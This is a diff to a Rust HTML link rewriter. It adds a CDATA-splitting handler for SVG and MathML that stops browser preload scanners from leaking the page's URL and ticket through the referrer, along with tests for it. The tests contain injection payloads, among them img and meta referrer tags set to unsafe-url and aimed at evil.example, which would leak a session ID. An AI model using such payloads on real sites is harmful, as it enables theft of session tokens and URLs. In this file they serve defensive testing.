@@ -51,10 +51,14 @@
 //!     same document to both. Outside reviews leaked the ticket through
 //!     each narrower rule tried first.
 //!
+//! - A CDATA section (SVG, MathML) keeps no `<` (see [`cdata`]): a
+//!   preload scanner reads tags in it that lol_html reads as text.
+//!
 //! Scripts, styles and comments are not HTML elements to lol_html, so
 //! links inside them are never touched; what a page's own scripts do with
 //! `location` is beyond any rewriter (see README, "Security model").
 
+use lol_html::html_content::{ContentType, TextChunk, TextType};
 use lol_html::send::{Element, HtmlRewriter, Settings};
 use lol_html::{AsciiCompatibleEncoding, MemorySettings};
 use url::Url;
@@ -207,6 +211,9 @@ pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
             .append_element_content_handler(lol_html::element!(selector, move |el| f(&page, el)));
     }
     let settings = settings
+        // Only SVG and MathML have CDATA sections; a handler for every
+        // text of the page would cost a third more on a link-dense one.
+        .append_element_content_handler(lol_html::text!("svg, math", cdata))
         .with_encoding(encoding)
         .with_adjust_charset_on_meta_tag(true)
         .with_memory_settings(
@@ -215,6 +222,22 @@ pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
                 .with_graceful_bail_out_on_memory_limit_exceeded(true),
         );
     Some(HtmlRewriter::new(settings, sink))
+}
+
+/// A CDATA section (in SVG or MathML) keeps no `<`: each is written as a
+/// character reference between two sections (`a<b` becomes
+/// `a]]>&lt;<![CDATA[b`). The HTML parser builds the same text from
+/// either; but a browser's preload scanner reads `<![CDATA[` as a comment
+/// that ends at the first `>` and fetches the tags it then sees inside, with
+/// the `referrerpolicy` or `<meta name=referrer>` found there, which this
+/// rewriter, reading the section as text, cannot remove (review 14 had
+/// Chromium send the page's address, ticket and all, to another origin).
+fn cdata(text: &mut TextChunk<'_>) -> HandlerResult {
+    if text.text_type() == TextType::CDataSection && text.as_str().contains('<') {
+        let split = text.as_str().replace('<', "]]>&lt;<![CDATA[");
+        text.replace(&split, ContentType::Html);
+    }
+    Ok(())
 }
 
 /// Only the first `<base href>` counts (HTML §4.2.3).
@@ -467,6 +490,40 @@ mod tests {
             let page = format!("{opening}<![CDATA[><b title=\"]]><img src='http://evil.example/?\"><a href=\"/x\">'>");
             let out = all_ways(&page);
             assert!(!out.contains("SID=abc"), "{page}: {out}");
+        }
+    }
+
+    /// A preload scanner ends `<![CDATA[` at the first `>` and reads what
+    /// follows as tags (review 14: an `<img referrerpolicy=unsafe-url>`
+    /// there was fetched with the page's address as its referrer). No `<`
+    /// is left inside a section; the parser's text is unchanged.
+    #[test]
+    fn cdata_sections_keep_no_tag_for_a_preload_scanner() {
+        let cases = [
+            (
+                "<svg><![CDATA[><img referrerpolicy=unsafe-url src=http://evil.example/>]]></svg>",
+                "<svg><![CDATA[>]]>&lt;<![CDATA[img referrerpolicy=unsafe-url src=http://evil.example/>]]></svg>",
+            ),
+            (
+                "<math><![CDATA[><meta name=referrer content=unsafe-url>]]></math>",
+                "<math><![CDATA[>]]>&lt;<![CDATA[meta name=referrer content=unsafe-url>]]></math>",
+            ),
+            (
+                "<svg><g><text><![CDATA[a<b]<c]]></text></g></svg>",
+                "<svg><g><text><![CDATA[a]]>&lt;<![CDATA[b]]]>&lt;<![CDATA[c]]></text></g></svg>",
+            ),
+            (
+                "<svg><script><![CDATA[if (a > b) run();]]></script></svg>",
+                "<svg><script><![CDATA[if (a > b) run();]]></script></svg>",
+            ),
+            // In HTML, `<![CDATA[` opens a comment that ends at the first `>`.
+            (
+                "<p><![CDATA[ x ]]><b>y</b>",
+                "<p><![CDATA[ x ]]><b>y</b>",
+            ),
+        ];
+        for (page, expected) in cases {
+            assert_eq!(all_ways(page), expected, "{page}");
         }
     }
 
